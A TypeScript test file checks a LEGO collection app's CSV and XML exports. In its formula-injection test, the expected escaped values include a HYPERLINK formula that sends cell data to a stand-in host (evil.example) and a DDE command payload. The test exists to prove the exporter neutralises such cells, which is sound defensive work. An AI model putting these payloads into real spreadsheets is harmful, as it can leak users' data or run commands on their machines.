import Papa from 'papaparse'
import { parseStringPromise } from 'xml2js'
import { describe, expect, it } from 'vitest'
import { buildExport } from '../../src/main/exchange/export-formats'
import type { ExportCollection, ExportSet } from '../../src/main/exchange/export-formats'
import { HOSTILE, LABELS, copy, exportSet } from './fixtures'
import { golden } from './store-fixtures'

/** An independent RFC 4180 parser (papaparse) reads what csv-stringify wrote. */
function parseBack(content: string): string[][] {
  const result = Papa.parse<string[]>(content.replace(/^\uFEFF/, ''), {
    skipEmptyLines: true,
    newline: '\r\n'
  })
  expect(result.errors).toEqual([])
  return result.data
}

const date = '2026-11-22'
const of = (sets: readonly ExportSet[], minifigs: ExportCollection['minifigs'] = []) => ({
  sets,
  minifigs,
  labels: LABELS
})
const header = (name: string): string[] => parseBack(golden(name))[0] ?? []

describe('CSV exports', () => {
  it('Brickset: the site’s columns in order, one Yes/No column per flag label, values in place', () => {
    const sets = [exportSet({ flags: [true, false, false, false, false, false, false, true] })]
    const rows = parseBack(buildExport('collection', of(sets), { date }).content)
    const site = header('brickset-sets-current.csv')
    // The golden file's flag columns are another user's labels; ours are named by LABELS.
    expect(rows[0]?.slice(0, 24)).toEqual(site.slice(0, 24))
    // A flag without a label is named as Brickset names it.
    expect(rows[0]?.slice(24, 32)).toEqual(
      LABELS.map((l) => l.label || `Flag ${l.flagNo} not used`)
    )
    expect(rows[0]?.slice(32)).toEqual(site.slice(32))
    const row = Object.fromEntries((rows[0] ?? []).map((h, i) => [h, rows[1]?.[i]]))
    expect(row).toMatchObject({
      Number: '10179-1',
      'Set name': 'Millennium Falcon',
      'RRP (GBP)': '342.49',
      'RRP (USD)': '499.99',
      EAN: '5702014518926',
      Width: '58.2',
      Weight: '9.55',
      'Qty owned': '1',
      Wanted: 'No',
      'Qty wanted': '0',
      Displayed: 'Yes',
      'Flag 8 not used': 'Yes',
      Boxed: 'No',
      'Launch date': '2007-10-01',
      'Exit date': ''
    })
  })

  it('formula injection: in the two spreadsheet files every = + - @ or tab start comes out as text', () => {
    for (const format of ['collection', 'studbook'] as const) {
      const rows = parseBack(buildExport(format, of(HOSTILE), { date }).content)
      for (const row of rows) {
        for (const cell of row) expect(cell, `${format}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
    const all = parseBack(buildExport('collection', of(HOSTILE), { date }).content).flat()
    expect(all).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
    expect(all).toContain(`'+SUM(1,2)`)
    expect(all).toContain(`'-2+3`)
    expect(all).toContain(`'@cmd|' /C calc'!A0`)
    expect(all).toContain(`'\tTabbed =1+1`)
  })

  it('files for a site’s importer carry text as it is: no formula guard in BrickEconomy’s', () => {
    const rows = parseBack(buildExport('brickeconomy', of(HOSTILE), { date }).content)
    // BrickEconomy reads the file itself, and would keep an apostrophe we put in front.
    expect(rows.flat()).toContain('=1+1')
    expect(rows.flat()).not.toContain("'=1+1")
    expect(rows.flat()).toContain('-2+3')
  })

  it('studbook full: a row per copy with every copy field, flags by number and name, minifigures', () => {
    const file = buildExport(
      'studbook',
      of(HOSTILE, [
        { number: 'sw0001a', name: 'Luke', category: 'Star Wars', ownedLoose: 2, wanted: false }
      ]),
      { date }
    )
    const rows = parseBack(file.content)
    const head = rows[0] ?? []
    expect(head).toContain('Current estimated value')
    expect(head.filter((h) => h.startsWith('Flag '))).toEqual([
      'Flag 1 (Displayed)',
      'Flag 2 (Boxed)',
      'Flag 3',
      'Flag 4 (Sealed)',
      'Flag 5 (For sale)',
      'Flag 6 (Gift)',
      'Flag 7',
      'Flag 8'
    ])
    expect(rows).toHaveLength(1 + 1 + 1 + 2 + 1)
    const col = (name: string) => head.indexOf(name)
    expect(rows[1]?.[col('Flag 1 (Displayed)')]).toBe('Yes')
    expect(rows[1]?.[col('Flag 4 (Sealed)')]).toBe('Yes')
    const copies = rows.filter((r) => r[col('Set ID')] === '3')
    expect(copies.map((r) => r[col('Currency')])).toEqual(['GBP', 'USD'])
    expect(copies.map((r) => r[col('Copy ID')])).toEqual(['7', ''])
    expect(copies[1]?.[col('Price paid')]).toBe('10.5')
    expect(copies[0]?.[col('Copy notes')]).toBe("'=1+1")
    const fig = rows.at(-1) ?? []
    expect([fig[col('Kind')], fig[col('Number')], fig[col('Qty owned')]]).toEqual([
      'Minifigure',
      'sw0001a',
      '2'
    ])
    // Text is quoted, so surrounding spaces survive spreadsheets and our own reader.
    expect(file.content.split('\r\n')[1]).toMatch(/^"Set",1,"1-1",/)
  })

  it('rebrickable: owned sets only, with their quantity, the site’s header, no BOM even if asked', () => {
    const file = buildExport('rebrickable', of(HOSTILE), { date, bom: true })
    expect(file.content.charCodeAt(0)).not.toBe(0xfeff)
    expect(parseBack(file.content)).toEqual([
      header('rebrickable-set-list.csv'),
      ['1-1', '1', 'True', '1'],
      ['3-1', '2', 'True', '1']
    ])
  })

  it('BrickEconomy: the per-copy header, a row per owned unit, money with its symbol, day first', () => {
    const sets = [
      exportSet({
        qtyOwned: 3,
        copies: [
          {
            ...copy({
              currency: 'EUR',
              pricePaid: 40.08,
              conditionWhenAcquired: 'Used - complete',
              dateAcquired: '2025-07-03'
            }),
            collectionID: 1
          },
          {
            ...copy({ currency: 'GBP', pricePaid: 12, conditionWhenAcquired: 'Sealed' }),
            collectionID: 2
          }
        ]
      }),
      exportSet({ setID: 2, fullNumber: '2-1', owned: false, wanted: true, qtyOwned: 0 })
    ]
    const file = buildExport('brickeconomy', of(sets), { date, bom: true })
    expect(file.content.charCodeAt(0)).not.toBe(0xfeff)
    const rows = parseBack(file.content)
    expect(rows[0]).toEqual(header('brickeconomy-collection-eu.csv'))
    expect(rows.slice(1).map((r) => r.slice(5))).toEqual([
      ['', '€40.08', '€120.00', 'UsedComplete', '03/07/2025', ''],
      // A condition BrickEconomy has no name for keeps the service's, so it reads back as it was.
      ['£342.49', '£12.00', '£120.00', 'Sealed', '24/12/2021', ''],
      ['', '', '', '', '', '']
    ])
    expect(file.rows).toBe(3)
  })

  it('optional UTF-8 BOM on the spreadsheet files', () => {
    for (const format of ['studbook', 'collection'] as const) {
      const withBom = buildExport(format, of(HOSTILE), { date, bom: true }).content
      const without = buildExport(format, of(HOSTILE), { date }).content
      expect(withBom.charCodeAt(0)).toBe(0xfeff)
      expect(without.charCodeAt(0)).not.toBe(0xfeff)
      expect(withBom.slice(1)).toBe(without)
    }
  })

  it('bricklink: no declaration, wanted sets and minifigures, text escaped', async () => {
    const sets = [
      exportSet({ setID: 9, fullNumber: '9-1', wanted: true, notes: 'a <b> & "c"' }),
      ...HOSTILE
    ]
    const file = buildExport(
      'bricklink',
      of(sets, [
        { number: 'sw0001a', name: 'Luke', category: '', ownedLoose: 0, wanted: true },
        { number: 'hp150', name: 'Harry', category: '', ownedLoose: 1, wanted: false }
      ]),
      // The user chose to send the sets' notes as remarks (the default sends none).
      { date, bom: true, remarks: 'notes' }
    )
    expect(file.content.startsWith('<INVENTORY>\n')).toBe(true)
    // xml2js (sax, strict) throws on anything that is not well-formed.
    const doc = (await parseStringPromise(file.content, { explicitArray: false, trim: false })) as {
      INVENTORY: { ITEM: Record<string, string>[] }
    }
    expect(doc.INVENTORY.ITEM).toEqual([
      { ITEMTYPE: 'S', ITEMID: '9-1', MINQTY: '1', NOTIFY: 'N', REMARKS: 'a <b> & "c"' },
      { ITEMTYPE: 'S', ITEMID: '2-1', MINQTY: '1', NOTIFY: 'N', REMARKS: '\tTabbed =1+1' },
      { ITEMTYPE: 'M', ITEMID: 'sw0001a', MINQTY: '1', NOTIFY: 'N' }
    ])
    expect(file.rows).toBe(3)
    // By default no REMARKS at all: a set's notes are the user's own, not a wanted note.
    const plain = buildExport('bricklink', of(sets), { date })
    expect(plain.content).not.toContain('<REMARKS>')
    expect(file.filename).toBe('bricklink-wanted-2026-11-22.xml')
  })
})
